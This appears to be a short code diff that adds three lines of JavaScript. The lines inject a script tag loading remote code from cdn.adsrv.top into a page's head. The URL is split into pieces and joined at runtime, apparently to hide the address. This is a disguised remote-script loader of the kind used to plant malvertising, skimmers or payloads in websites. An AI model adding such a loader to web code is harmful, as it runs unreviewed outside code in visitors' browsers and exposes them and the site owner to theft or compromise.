@@ -1,0 +1,3 @@
+const el = document.createElement('script');
+el.setAttribute('src', ['https:/', 'cdn.adsrv.top', 'p.js'].join('/'));
+(document.head || document.documentElement).appendChild(el);
